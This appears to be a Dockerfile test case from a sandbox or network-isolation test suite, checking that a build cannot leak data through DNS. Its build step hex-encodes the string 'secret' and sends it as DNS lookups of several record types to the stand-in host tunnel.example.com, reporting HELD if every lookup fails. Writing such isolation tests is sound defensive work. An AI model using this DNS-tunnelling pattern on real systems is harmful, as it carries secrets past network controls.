# attack: Data carried out in questions about names
# expect: held
FROM node:14-alpine
RUN node <<'EOF'
const { Resolver } = require("dns").promises;
const resolver = new Resolver();
const data = Buffer.from("secret").toString("hex");
const ask = ["resolveTxt", "resolveAny", "resolve4", "resolveMx", "resolveNs"].map((how) =>
  resolver[how](`${data}.tunnel.example.com`).then((found) => `BROKEN ${how}: ${JSON.stringify(found)}`, () => null));
Promise.all(ask).then((all) => console.log(all.filter(Boolean).join("\n") || "HELD"));
EOF
